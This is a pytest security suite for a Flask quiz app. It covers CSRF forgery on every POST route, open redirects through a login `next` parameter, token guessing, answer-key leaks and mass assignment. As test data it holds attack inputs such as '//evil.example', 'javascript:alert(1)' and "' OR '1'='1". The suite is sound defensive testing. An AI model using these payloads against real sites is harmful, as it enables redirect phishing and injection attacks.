LTI_INSTRUCTOR_POSTS = ("/lti/deep-link", "/lti/classes/<int:class_id>/load-roster")


def _post_rules() -> list[str]:
    app = create_app({"TESTING": True, "SECRET_KEY": "x", "SQLALCHEMY_DATABASE_URI": "sqlite://"})
    with app.app_context():
        db.engine.dispose()
    rules = (rule.rule for rule in app.url_map.iter_rules() if "POST" in rule.methods)
    return sorted(rule for rule in rules if rule not in LTI_PLATFORM_POSTS + LTI_INSTRUCTOR_POSTS)


POST_RULES = _post_rules()


@pytest.mark.parametrize("rule", LTI_PLATFORM_POSTS)
def test_only_the_platforms_posts_skip_the_csrf_check(scene, rule):
    """A platform's POST without a CSRF token reaches the LTI checks (which refuse this one for
    their own reason) instead of being turned away as an expired form."""
    response = scene.app.test_client().post(rule, data={"iss": "https://lms.example.edu"})
    assert 400 <= response.status_code < 500
    assert "This form has expired" not in text(response)
    assert "LTI launch refused" in text(response) or "registration link is unknown" in text(
        response
    )


@dataclass
class Scene:
    """A school with CSRF protection on: an instructor, a class, a student mid-quiz."""

    app: object
    teacher: object
    student: Student
    class_id: int
    code: str
    rostered_class_id: int
    roster_student_id: int

    def state(self, client) -> tuple:
        """Everything a forged request could change (every stored row), and whether this
        browser is logged in."""
        return stored_rows(self.app), client.get("/teach").status_code

    def change_class(self, **values):
        """Set the class up directly, so that the action would show if it went through."""
        with self.app.app_context():
            scope = db.session.get(Class, self.class_id)
            for name, value in values.items():
                setattr(scope, name, value)
            db.session.commit()


@pytest.fixture
def scene(tmp_path):
    app = make_app(tmp_path, WTF_CSRF_ENABLED=True)
    teacher = instructor(app, "teacher")
    class_id, code = new_class(teacher, "Physics 101")
    student = Student(app.test_client())
    assert student.start(name="Ada", class_code=code).status_code == 303
    rostered_class_id, _ = new_class(teacher, "Rostered")
    with app.app_context():
        dana_id = add_students(rostered_class_id, read_text("Dana Diaz, 1"))[0].id
    return Scene(app, teacher, student, class_id, code, rostered_class_id, dana_id)


def _request_for(scene, rule):
    """Who sends a POST to this rule, where, with which fields, and what success looks like."""
    fresh = scene.app.test_client()
    student = scene.student
    if rule == "/quizzes/<slug>":
        fresh.get(f"/quizzes/{SLUG}")  # a session with a token of its own
        return fresh, f"/quizzes/{SLUG}", {"name": "Mallory"}, f"/quizzes/{SLUG}"
    if rule == "/attempts/<token>/questions/<int:number>":
        url = student.question_url(1)
        return student.client, url, {"choice": "recompute"}, url
    if rule == "/attempts/<token>/retake":
        return student.client, f"/attempts/{student.token}/retake", {}, student.results_url
    if rule == "/attempts/<token>/finish":
        return student.client, f"/attempts/{student.token}/finish", {}, student.results_url
    if rule == "/login":
        fresh.get("/login")
        return fresh, "/login", {"username": "teacher", "password": PASSWORD}, "/login"
    if rule == "/logout":
        return scene.teacher, "/logout", {}, "/teach"
    if rule == "/teach":
        return scene.teacher, "/teach", {"name": "Forged class"}, "/teach"
    if rule == "/account/password":
        new = {"new_password": "forged password", "repeat_password": "forged password"}
        fields = {"current_password": PASSWORD, **new}
        return scene.teacher, "/account/password", fields, "/account/password"
    if rule == "/teach/classes/<int:class_id>/assignments/new":
        url = f"/teach/classes/{scene.class_id}/assignments/new"
        fields = {
            "quiz": SLUG,
            "time_zone": "UTC",
            "grade_from": "first",
            "feedback": "each-answer",
        }
        return scene.teacher, url, fields, url
    if "/exceptions/" in rule:
        return _exception_change(scene, rule)
    if rule.endswith("/regrade"):
        return _regrade(scene)
    if "<int:assignment_id>" in rule:
        with scene.app.app_context():  # held feedback and no limit, so that each action shows
            held = db.session.scalar(db.select(Assignment))
            if held is None:
                held = Assignment(class_id=scene.class_id, quiz_slug=SLUG, feedback="after-close")
                db.session.add(held)
                db.session.commit()
            url = rule.replace("<int:class_id>", str(scene.class_id))
            url = url.replace("<int:assignment_id>", str(held.id))
        fields = {"time_zone": "UTC", "attempts_allowed": "2", "grade_from": "best",
                  "feedback": "after-close"}  # fmt: skip
        return scene.teacher, url, fields, f"/teach/classes/{scene.class_id}"
    if "/override" in rule:  # marks are given by hand once an attempt is finished
        undo = rule.endswith("/undo")
        _finish(scene, score_override=1 if undo else None)
        review = f"/teach/attempts/{student.token}"
        fields = {} if undo else {"points": "0.5", "comment": "By hand."}
        return scene.teacher, rule.replace("<token>", student.token), fields, review
    if rule.startswith("/teach/attempts/<token>/"):
        if rule.endswith("/restore"):
            _void(scene)
        url = rule.replace("<token>", student.token)
        fields = {"confirm": "yes"} if rule.endswith("/void") else {}  # past the question
        return scene.teacher, url, fields, url.rsplit("/", 1)[0]
    if rule == "/lti/admin/registration-link":
        return instructor(scene.app, "boss", is_admin=True), rule, {}, "/lti/admin"
    if rule == "/s/<code>":
        with scene.app.app_context():
            code = db.session.get(RosterStudent, scene.roster_student_id).sign_in_code
        return fresh, f"/s/{code}", {"quiz": SLUG}, f"/s/{code}"
    roster = f"/teach/classes/{scene.rostered_class_id}/roster"
    if rule == "/teach/classes/<int:class_id>/roster":
        return scene.teacher, roster, {"students": "Mallory Forged"}, roster
    if rule.startswith("/teach/classes/<int:class_id>/roster/<int:student_id>/"):
        if rule.endswith("/restore"):  # so that restoring would show
            with scene.app.app_context():
                db.session.get(RosterStudent, scene.roster_student_id).removed_at = now()
                db.session.commit()
        action = rule.rsplit("/", 1)[1]
        return scene.teacher, f"{roster}/{scene.roster_student_id}/{action}", {}, roster
    if rule.startswith("/teach/classes/<int:class_id>/"):
        scene.change_class(is_open=rule.endswith("/close"))
        if rule.endswith("/restore"):
            scene.change_class(archived_at=now())
        url = rule.replace("<int:class_id>", str(scene.class_id))
        return scene.teacher, url, _class_change(scene, rule), f"/teach/classes/{scene.class_id}"
    if rule.startswith("/teach/quizzes"):
        return _quiz_change(scene, rule)
    raise AssertionError(f"no forged request for {rule}: add it to _request_for")


QUESTION = {"prompt": "Forged?", "choices-0-text": "A", "choices-1-text": "B", "right": "0"}


def _base(client, url) -> str:
    """The draft's fingerprint an editor page's form carries."""
    page = client.get(url).get_data(as_text=True)
    return re.search(r'name="base" type="hidden" value="([^"]*)"', page)[1]



def _quiz_change(scene, rule):
    """A change to the teacher's own quiz, published and then changed in a draft."""
    with scene.app.app_context():
        teacher = find_instructor("teacher")
        record = db.session.scalar(db.select(QuizRecord).filter_by(slug="own"))
        if record is None:
            record = factories.owned_quiz(teacher, "own")
            drafts.save(record, lambda draft: draft.update(title="Own, reworded"), teacher.id)
        colleague = find_instructor("colleague") or create_instructor("colleague", PASSWORD)
        factories.share_quiz(record, colleague)
        publication_id = db.session.scalar(
            db.select(Publication.id).where(Publication.quiz_id == record.id)
        )
        colleague_id = colleague.id
    fields = {
        "/teach/quizzes": {"title": "Forged quiz"},
        "/teach/quizzes/<slug>/edit": {
            "base": _base(scene.teacher, "/teach/quizzes/own/edit"),
            "title": "Forged",
            "slug": "own",
            "description": "Forged.",
        },
        "/teach/quizzes/<slug>/new-question": QUESTION,
        "/teach/quizzes/<slug>/questions/<question_id>": {
            "base": _base(scene.teacher, "/teach/quizzes/own/questions/q1"),
            **QUESTION,
        },
        "/teach/quizzes/<slug>/share": {"username": "colleague", "role": "edit"},
        "/teach/quizzes/<slug>/listing": {"listed": "on"},
        "/teach/quizzes/<slug>/discard": {"confirm": "yes"},
        "/teach/quizzes/<slug>/delete": {"confirm": "yes"},
        "/teach/quizzes/import/confirm": {"parsed": signed_import(scene.app), "into": ""},
    }.get(rule, {})
    url = (
        rule.replace("<slug>", "own")
        .replace("<question_id>", "q1")
        .replace("<any(up, down, duplicate, delete):action>", "down")
        .replace("<int:instructor_id>", str(colleague_id))
        .replace("<int:publication_id>", str(publication_id))
    )
    return scene.teacher, url, fields, "/teach/quizzes"


def _exception_change(scene, rule):
    """An exception granted, changed or removed, for a student the class has seen."""
    with scene.app.app_context():
        held = db.session.scalar(db.select(Assignment)) or Assignment(
            class_id=scene.class_id, quiz_slug=SLUG, feedback="after-close"
        )
        held.time_limit_minutes = 30  # what an exception gives more of
        db.session.add(held)
        db.session.commit()
        for name in ("Dana", "Eve"):  # Dana has an exception, Eve none yet
            factories.attempt(current_bank().quizzes[SLUG], name, class_id=scene.class_id)
        save_exception(held, {"dana": "Dana"}, Said(time_limit_minutes=40))
        exception_id = db.session.scalar(db.select(Accommodation.id))
        url = (rule.replace("<int:class_id>", str(scene.class_id))
               .replace("<int:assignment_id>", str(held.id))
               .replace("<int:exception_id>", str(exception_id)))  # fmt: skip
    fields = {"time_zone": "UTC", "students": "eve", "time_limit": "45"}
    return scene.teacher, url, {} if url.endswith("/remove") else fields, url.removesuffix(
        "/remove").replace(f"/exceptions/{exception_id}", "/exceptions/new")


def _regrade(scene):
    """A question's key corrected after the class answered it, so that a regrade shows."""
    with scene.app.app_context():
        owner = find_instructor("teacher")
        record = factories.owned_quiz(owner, "keys")
        factories.attempt(current_bank().quizzes["keys"], "Dana", answers=["b"],
                          class_id=scene.class_id)  # fmt: skip
        factories.correct_first_key(record, owner)
    url = f"/teach/classes/{scene.class_id}/quizzes/keys/regrade"
    return scene.teacher, url, {"question": "q1"}, url


def _class_change(scene, rule) -> dict:
    """The fields of a change to a class, after setting up what it needs."""
    action = rule.removeprefix("/teach/classes/<int:class_id>/")
    if action == "merge":
        with scene.app.app_context():
            factories.attempt(current_bank().quizzes[SLUG], "Ada L", class_id=scene.class_id)
        return {"first": "ada", "second": "ada l"}
    if action.startswith("shares"):
        with scene.app.app_context():
            colleague = find_instructor("colleague") or create_instructor("colleague", PASSWORD)
            if action == "shares/stop":
                factories.share(db.session.get(Class, scene.class_id), colleague)
            colleague_id = colleague.id
        return {"username": "colleague", "role": "view", "instructor": colleague_id}
    return {"rename": {"name": "Forged name"}, "delete": {"confirm": "Physics 101"}}.get(action, {})


def _void(scene):
    with scene.app.app_context():
        voided = db.session.scalar(db.select(Attempt))
        voided.voided_at = now()
        db.session.commit()


def _finish(scene, score_override=None):
    with scene.app.app_context():
        for attempt in db.session.scalars(db.select(Attempt)):
            attempt.finished_at, attempt.score_override = now(), score_override
        db.session.commit()


def test_every_post_route_has_a_forgery_test(scene):
    """A new POST route must be added to the CSRF walk; the walk covers the whole URL map."""
    assert len(POST_RULES) >= 8
    for rule in POST_RULES:
        _request_for(scene, rule)


@pytest.mark.parametrize("rule", POST_RULES)
def test_forged_posts_are_refused_and_change_nothing(scene, tally, rule):
    """No token, a bad one, another session's, or one outside the form: "form expired", no change.

    The same request with this session's token then goes through, so the token alone decided.
    """
    client, url, fields, token_page = _request_for(scene, rule)
    own = csrf_token(client.get(token_page, follow_redirects=True).get_data(as_text=True))
    stranger = scene.app.test_client()
    theirs = csrf_token(stranger.get("/login").get_data(as_text=True))
    tampered = own[:-2] + ("AA" if own[-2:] != "AA" else "BB")
    before = scene.state(client)
    forgeries = {
        "no token": dict(data=fields),
        "empty token": dict(data={**fields, "csrf_token": ""}),
        "made-up token": dict(data={**fields, "csrf_token": "forged"}),
        "tampered token": dict(data={**fields, "csrf_token": tampered}),
        "another session's token": dict(data={**fields, "csrf_token": theirs}),
        "token in the query string": dict(data=fields, query_string={"csrf_token": own}),
        "text/plain form": dict(
            data=urlencode({**fields, "csrf_token": own}), content_type="text/plain"
        ),
        "JSON body": dict(json={**fields, "csrf_token": own}),
    }
    for how, request in forgeries.items():
        response = client.post(url, **request)
        assert response.status_code == 400, (how, response.status_code)
        assert "This form has expired" in text(response), how
        assert scene.state(client) == before, how
        tally["attack payloads tried"] += 1

    if rule == "/teach/quizzes/import":  # its first step reports and stores nothing
        upload = (io.BytesIO(b"::q::Which? {=this ~that}"), "q.gift")
        response = client.post(url, data={**fields, "csrf_token": own, "upload": upload})
        assert response.status_code == 200 and "No question is stored yet." in text(response)
        return
    response = client.post(url, data={**fields, "csrf_token": own})
    assert response.status_code == 303, text(response)
    assert scene.state(client) != before  # the genuine request did change something


def test_https_forms_from_another_site_are_refused(scene, tally):
    """Over HTTPS, a form posted from another site's page is refused even with a valid token."""
    client = scene.app.test_client()
    page = client.get("/login", base_url="https://localhost").get_data(as_text=True)
    token = csrf_token(page)
    fields = {"username": "teacher", "password": PASSWORD, "csrf_token": token}
    for referrer in ("https://evil.example/login", "http://localhost/login", None):
        headers = {"Referer": referrer} if referrer else {}
        response = client.post("/login", data=fields, base_url="https://localhost", headers=headers)
        assert response.status_code == 400, referrer
        assert "This form has expired" in text(response)
        tally["attack payloads tried"] += 1
    assert client.get("/teach", base_url="https://localhost").status_code == 302
    ours = {"Referer": "https://localhost/login"}
    assert (
        client.post("/login", data=fields, base_url="https://localhost", headers=ours).status_code
        == 303
    )


# --- Open redirects through `next` ------------------------------------------------------------


def lands_on(location: str, base="http://localhost/login") -> tuple[str, str]:
    """The scheme and host a browser goes to for a Location, parsing it the WHATWG way.

    Browsers trim leading C0 controls and spaces, drop tabs and newlines anywhere and read a
    backslash as a slash in http(s) addresses; "https:host" with another scheme is absolute.
    """
    cleaned = re.sub(r"[\t\n\r]", "", location).lstrip("".join(map(chr, range(0x21))))
    cleaned = cleaned.replace("\\", "/")
    parts = urlsplit(cleaned)
    if parts.scheme and parts.scheme.lower() != "http":
        host = parts.netloc or parts.path.lstrip("/").split("/")[0]
        return parts.scheme.lower(), host
    if parts.scheme and not cleaned[len(parts.scheme) + 1 :].startswith("//"):
        cleaned = cleaned[len(parts.scheme) + 1 :]  # "http:path" is relative to an http page
    target = urlsplit(urljoin(base, cleaned))
    return target.scheme, target.hostname or ""


def test_the_browser_model_sees_foreign_targets():
    """lands_on says "elsewhere" for the classic open-redirect forms, and "here" for our paths."""
    assert lands_on("/teach/classes/1") == ("http", "localhost")
    for foreign in ("//evil.example", "/\\evil.example", "\t//evil.example", "https:evil.example",
                    "javascript:alert(1)", " //evil.example", "\\\\evil.example"):  # fmt: skip
        assert lands_on(foreign) != ("http", "localhost"), foreign


@pytest.mark.parametrize("how", ["decoded", "raw"])
def test_login_next_never_leaves_the_site(scene, tally, how):
    """Whatever `next` holds, logging in lands on this site, with one clean Location header."""
    for target in NEXT_TARGETS:
        client = scene.app.test_client()
        page = client.get("/login").get_data(as_text=True)
        fields = {"username": "teacher", "password": PASSWORD}
        fields["csrf_token"] = csrf_token(page)
        if how == "decoded":  # the app's `next` is exactly the target
            response = client.post("/login", data=fields, query_string={"next": target})
        else:  # as typed into the address bar: the server decodes the percent-escapes
            raw = "".join(c if " " < c < "\x7f" else quote(c) for c in target)
            response = client.post(f"/login?next={raw}", data=fields)
        assert response.status_code in (303, 400), (target, response.status_code)
        if response.status_code == 303:
            [location] = response.headers.getlist("Location")
            assert not re.search(r"[\x00-\x20\x7f]", location), (target, location)
            assert lands_on(location) == ("http", "localhost"), (target, location)
            if lands_on(target) != ("http", "localhost"):
                assert location == "/teach", (target, location)
        tally["attack payloads tried"] += 1


PIECES = ["/", "\\", "//", ":", "evil.example", "localhost", "https", "javascript", "@", ".",
          "%2F", "%5C", "\t", "\n", "\r", " ", "\x00", "\x0b", "?", "#", "\uff0f",
          "teach"]  # fmt: skip


@settings(max_examples=400, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])  # fmt: skip
@given(st.lists(st.sampled_from(PIECES), max_size=8).map("".join) | st.text(max_size=20))
def test_safe_next_only_keeps_addresses_on_this_site(tally, target):
    """Any `next` that survives lands on this site as a browser reads it; others become None."""
    kept = safe_next(target)
    assert kept is None or kept == target
    if kept is not None:
        assert lands_on(kept) == ("http", "localhost"), kept
        assert not re.search(r"[\x00-\x1f\x7f\\]", kept)
    tally["attack payloads tried"] += 1


# --- Access control on the student pages -------------------------------------------------------


STUDENT_ROUTES = {
    #                                              owner  classmate anonymous instructor admin
    ("quiz.question", "GET"): (200, 403, 403, 403, 403),
    ("quiz.question", "POST"): (303, 403, 403, 403, 403),
    # A shared results link may be read by anyone, by design (README, Taking a quiz).
    ("quiz.results", "GET"): (200, 200, 200, 200, 200),
    ("quiz.retake", "POST"): (303, 403, 403, 403, 403),
    ("quiz.finish", "POST"): (303, 403, 403, 403, 403),
    ("quiz.resume", "GET"): (303, 403, 403, 403, 403),
}  # fmt: skip
VISITORS = ("classmate", "anonymous", "instructor", "admin", "owner")  # the owner acts last
COLUMN = {"owner": 0, "classmate": 1, "anonymous": 2, "instructor": 3, "admin": 4}


def _token_routes(app) -> set[tuple[str, str]]:
    return {
        (rule.endpoint, method)
        for rule in app.url_map.iter_rules()
        if "token" in rule.arguments and not rule.endpoint.startswith("teach.")
        for method in rule.methods - {"HEAD", "OPTIONS"}
    }


def test_every_attempt_route_has_expectations(scene):
    """A new student route addressed by a token must be added to STUDENT_ROUTES."""
    assert _token_routes(scene.app) == set(STUDENT_ROUTES)


def visitor(scene, who):
    """A browser as this visitor; each has a session and a CSRF token of its own."""
    if who == "owner":
        return scene.student
    if who == "classmate":
        mate = Student(scene.app.test_client())
        assert mate.start(name="Bob", class_code=scene.code).status_code == 303
        return mate
    if who == "anonymous":
        return Student(scene.app.test_client())
    if who == "instructor":
        return Student(scene.teacher)
    with scene.app.app_context():
        create_instructor("boss", PASSWORD, is_admin=True)
    admin = scene.app.test_client()
    assert login(admin, "boss", PASSWORD).status_code == 303
    return Student(admin)


@pytest.mark.postgres
@pytest.mark.parametrize("route", sorted(STUDENT_ROUTES), ids="-".join)
def test_only_the_starting_browser_acts_on_an_attempt(scene, tally, route):
    """Classmates, strangers, instructors and admins may read the results, not answer or retake."""
    endpoint, method = route
    token = scene.student.token
    url = {
        "quiz.question": f"/attempts/{token}/questions/1",
        "quiz.results": f"/attempts/{token}/results",
        "quiz.retake": f"/attempts/{token}/retake",
        "quiz.finish": f"/attempts/{token}/finish",
        "quiz.resume": f"/attempts/{token}/continue",
    }[endpoint]
    for who in VISITORS:
        browser = visitor(scene, who)
        before = (count(scene.app, Attempt), count(scene.app, Answer))
        if method == "GET":
            response = browser.client.get(url)
        else:  # with every field a visitor might hope would pass for the owner
            response = browser.post(url, choice="recompute", **MASS_FIELDS)
        expected = STUDENT_ROUTES[route][COLUMN[who]]
        assert response.status_code == expected, (who, response.status_code)
        after = (count(scene.app, Attempt), count(scene.app, Answer))
        if expected == 403:
            assert after == before, who
            assert "Only the browser that" in text(response)
        if endpoint == "quiz.results":
            owner_view = "Your results" in text(response)
            assert owner_view == (who == "owner"), who
            assert ("Retake quiz" in text(response)) == (who == "owner"), who
        tally["access checks"] += 1


@pytest.mark.postgres
def test_guessed_or_altered_tokens_find_nothing(scene, tally):
    """Random, truncated, extended, re-cased and wildcard tokens reach no attempt, for anyone."""
    token = scene.student.token
    other = Student(scene.app.test_client())
    assert other.start(name="Bob").status_code == 303
    guesses = [
        secrets.token_urlsafe(24), token[:-1], token[:16], token + "A", token.swapcase(),
        token.upper(), token.lower(), token[1:] + token[0], other.token.swapcase(),
        token[:-1] + "%", token[:-1] + "_", "%", "_" * len(token), "' OR '1'='1", "1", "0",
        token + " ", " " + token, token + "%20", "..",
    ]  # fmt: skip
    guesses = [g for g in guesses if g not in (token, other.token)]
    with scene.app.app_context():
        create_instructor("boss", PASSWORD, is_admin=True)
    admin = scene.app.test_client()
    assert login(admin, "boss", PASSWORD).status_code == 303
    before = (count(scene.app, Attempt), count(scene.app, Answer))
    mallory = Student(scene.app.test_client())
    for guess in guesses:
        where = quote(guess, safe="")
        for response in (
            mallory.client.get(f"/attempts/{where}/results"),
            mallory.client.get(f"/attempts/{where}/questions/1"),
            mallory.post(f"/attempts/{where}/questions/1", choice="recompute"),
            # A fresh browser each time: starts and retakes are limited per browser.
            Student(scene.app.test_client()).post(f"/attempts/{where}/retake"),
            scene.student.client.get(f"/attempts/{where}/questions/1"),  # even the owner
            admin.get(f"/teach/attempts/{where}"),
        ):
            assert response.status_code == 404, (guess, response.status_code)
            tally["access checks"] += 1
        tally["attack payloads tried"] += 1
    assert (count(scene.app, Attempt), count(scene.app, Answer)) == before


# --- The answer key never reaches the browser before the answer ---------------------------------


def secrets_of(question, quiz) -> list[str]:
    """What would give a question's answer away: its explanations, and the sources only it cites.

    A source several questions cite is shown, rightly, once any of them is answered.
    """
    cited_elsewhere = {
        part
        for other in quiz.questions
        if other is not question
        for reference in other.references
        for part in (reference.title, reference.url)
    }
    sources = [part for r in question.references for part in (r.title, r.url)]
    return [
        question.explanation,
        *(choice.explanation for choice in question.choices),
        *(part for part in sources if part not in cited_elsewhere),
    ]


def session_of(app, client) -> dict:
    """The session cookie decoded with the app's own key, as someone holding the key would."""
    cookie = client.get_cookie("session")
    if cookie is None:
        return {}
    return app.session_interface.get_signing_serializer(app).loads(cookie.value)


def leaks(response, app, client, question, quiz) -> list[str]:
    """Where a question's key shows: page, headers or session cookie; its right id as a mark."""
    page = response.get_data(as_text=True)
    headers = "\n".join(f"{k}: {v}" for k, v in response.headers.items())
    cookie = json.dumps(session_of(app, client), ensure_ascii=False)
    found = [
        f"{place}: {secret[:30]!r}"
        for secret in secrets_of(question, quiz)
        for place, body in (("page", page), ("headers", headers), ("cookie", cookie))
        if secret in body or shown(secret) in body
    ]
    right = right_choice(question).id
    if right in headers or right in cookie:
        found.append(f"right choice id {right!r} outside the form")
    return found


class Form(HTMLParser):
    """The answer form's inputs and labels, to compare the right choice's markup with the rest."""

    def __init__(self):
        super().__init__()
        self.inputs, self.labels, self.marked = [], [], []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.marked += [(tag, name) for name in attrs if name.startswith("data-")]
        if tag not in ("input", "label"):
            return
        (self.inputs if tag == "input" else self.labels).append(attrs)
        for name, value in attrs.items():
            if re.search(r"correct|right|answer", f"{name} {value}", re.I):
                self.marked.append((tag, name, value))


@pytest.mark.postgres
def test_the_answer_key_stays_on_the_server_until_answered(app, student, quiz, tally):
    """Before an answer: no explanation, source or right-choice mark in page, hidden field, header
    or decoded session cookie, also on the "choose one" and "not yours" pages; afterwards it shows.
    """
    student.start()
    stranger = Student(app.test_client())
    for number, question in enumerate(quiz.questions, 1):
        url = student.question_url(number)
        for where, response, client in (
            ("question", student.client.get(url), student.client),
            ("choose one", student.post(url), student.client),
            ("not yours", stranger.client.get(url), stranger.client),
            ("results", student.client.get(student.results_url), student.client),
        ):
            assert leaks(response, app, client, question, quiz) == [], (number, where)
            tally["attack payloads tried"] += 1
        form = Form()
        form.feed(student.client.get(url).get_data(as_text=True))
        hidden = [i["name"] for i in form.inputs if i.get("type") == "hidden"]
        assert hidden == ["csrf_token"]
        radios = [i for i in form.inputs if i.get("type") == "radio"]
        assert sorted(r["value"] for r in radios) == sorted(c.id for c in question.choices)
        # The right choice's input and label look exactly like every other choice's.
        shapes = {tuple(sorted(set(r) - {"value", "id"})) for r in radios}
        assert (
            len(shapes) == 1 and len({tuple(sorted(label.items())) for label in form.labels}) == 1
        )
        assert form.marked == []

        assert student.answer(number, right_choice(question).id).status_code == 303
        feedback = student.client.get(url)
        shown_now = text(feedback)
        assert shown(right_choice(question).explanation) in shown_now  # sanity: now it shows
        assert "Right answer" in shown_now
        if number < len(quiz.questions):  # ...but the next question's key still does not
            upcoming = quiz.questions[number]
            assert leaks(feedback, app, student.client, upcoming, quiz) == [], number
    # The browser id, the CSRF token and Flask-Login's bookkeeping: nothing about answers.
    session = session_of(app, student.client)
    assert set(session) <= {"browser", "csrf_token", "_permanent", "_fresh", "_id"}


# --- Mass assignment: fields no form offers change nothing ---------------------------------------


def other_class(scene) -> tuple[int, int]:
    """Another instructor and their class, which no request of the teacher's may touch."""
    with scene.app.app_context():
        other = create_instructor("other", PASSWORD)
        theirs = Class(name="Chemistry", join_code="GHJKMN", instructor_id=other.id)
        db.session.add(theirs)
        db.session.commit()
        return other.id, theirs.id


def test_extra_fields_cannot_shape_a_new_attempt(scene):
    """Starting a quiz with score, class, browser and token fields gives a plain fresh attempt."""
    other_id, theirs_id = other_class(scene)
    mallory = Student(scene.app.test_client())
    extra = {**MASS_FIELDS, "class_id": str(theirs_id), "instructor_id": str(other_id)}
    response = mallory.client.post(
        f"/quizzes/{SLUG}?" + urlencode(extra),
        data={**extra, "csrf_token": mallory.csrf, "name": "Eve"},
    )
    assert response.status_code == 303
    token = response.location.split("/")[2]
    with scene.app.app_context():
        attempt = db.session.scalars(db.select(Attempt).filter_by(token=token)).one()
        assert (attempt.student_name, attempt.class_id) == ("Eve", None)
        assert (attempt.answered, attempt.points, attempt.last_answer_at) == (0, 0, None)
        assert attempt.browser == mallory.client.get_cookie("browser").value
        assert attempt.browser != "mallorys-browser" and token != "mallorys-token"
        assert attempt.quiz_version.slug == SLUG


def test_extra_fields_cannot_mark_an_answer_right(scene):
    """A wrong choice sent with correct=true, points=8 and the like is stored wrong, scoring 0."""
    student = scene.student
    with scene.app.app_context():
        quiz = current_bank().quizzes[SLUG]
    wrong = next(c for c in quiz.questions[0].choices if not c.correct)
    extra = {**MASS_FIELDS, "class_id": "999", "question_id": quiz.questions[1].id}
    response = student.client.post(
        student.question_url(1) + "?" + urlencode(extra),
        data={**extra, "csrf_token": student.csrf, "choice": wrong.id},
    )
    assert response.status_code == 303
    assert "Incorrect." in text(student.client.get(student.question_url(1)))
    with scene.app.app_context():
        [answer] = db.session.scalars(db.select(Answer)).all()
        assert (answer.question_id, answer.response, answer.is_correct) == (
            quiz.questions[0].id, wrong.id, False,
        )  # fmt: skip
        attempt = db.session.scalars(db.select(Attempt)).one()
        assert (attempt.answered, attempt.points, attempt.student_name) == (1, 0, "Ada")
        assert attempt.class_id == scene.class_id


def test_extra_fields_cannot_shape_a_retake(scene):
    """A retake with another name or class keeps the original student and class."""
    student = scene.student
    extra = {**MASS_FIELDS, "class_id": "999", "name": "Mallory"}
    response = student.post(f"/attempts/{student.token}/retake", **extra)
    assert response.status_code == 303
    with scene.app.app_context():
        fresh = db.session.scalars(db.select(Attempt).order_by(Attempt.id.desc())).first()
        assert (fresh.student_name, fresh.class_id, fresh.points) == ("Ada", scene.class_id, 0)


def test_extra_fields_cannot_shape_a_new_class(scene):
    """A class created with instructor_id, is_open and join_code fields is the creator's, open."""
    with scene.app.app_context():
        other = create_instructor("other", PASSWORD).id
    extra = {**MASS_FIELDS, "instructor_id": str(other), "class_id": "1"}
    response = scene.teacher.post(
        "/teach?" + urlencode(extra),
        data={**extra, "csrf_token": form_token(scene.teacher), "name": "Biology"},
    )
    assert response.status_code == 303
    with scene.app.app_context():
        made = db.session.scalars(db.select(Class).filter_by(name="Biology")).one()
        teacher = db.session.scalars(db.select(Instructor).filter_by(username="teacher")).one()
        assert made.instructor_id == teacher.id != other
        assert made.is_open and made.join_code != "AAAAAA" and made.id != 999
        assert teacher.is_admin is False


def test_extra_fields_cannot_make_a_login_an_admin(scene):
    """Logging in with is_admin, id and session_token fields logs in the same plain instructor."""
    with scene.app.app_context():
        boss = create_instructor("boss", PASSWORD, is_admin=True)
        boss_id, boss_token = boss.id, boss.session_token
    client = scene.app.test_client()
    page = client.get("/login").get_data(as_text=True)
    extra = {**MASS_FIELDS, "id": str(boss_id), "session_token": boss_token,
             "instructor_id": str(boss_id)}  # fmt: skip
    fields = {**extra, "username": "teacher", "password": PASSWORD}
    fields["csrf_token"] = csrf_token(page)
    assert client.post("/login?" + urlencode(extra), data=fields).status_code == 303
    dashboard = text(client.get("/teach"))
    assert "<h1>Your classes</h1>" in dashboard and "Attempts without a class" not in dashboard
    assert client.get("/teach/no-class").status_code == 404
    with scene.app.app_context():
        teacher = db.session.scalars(db.select(Instructor).filter_by(username="teacher")).one()
        assert teacher.is_admin is False and teacher.password_hash != MASS_FIELDS["password_hash"]
        assert teacher.session_token == session_of(scene.app, client)["_user_id"] != boss_token


def test_extra_fields_cannot_steer_close_or_reopen(scene):
    """Closing with is_open=1 closes; another class named in the fields stays as it was."""
    _, theirs_id = other_class(scene)

    def status():
        with scene.app.app_context():
            found = db.session.scalars(db.select(Class).where(Class.id != scene.rostered_class_id))
            return {c.id: c.is_open for c in found}

    base = f"/teach/classes/{scene.class_id}"
    for action, sent, expected in (("close", "1", False), ("reopen", "0", True)):
        extra = {**MASS_FIELDS, "is_open": sent, "class_id": str(theirs_id), "id": str(theirs_id)}
        response = scene.teacher.post(
            f"{base}/{action}?" + urlencode(extra),
            data={**extra, "csrf_token": form_token(scene.teacher)},
        )
        assert response.status_code == 303
        assert status() == {scene.class_id: expected, theirs_id: True}
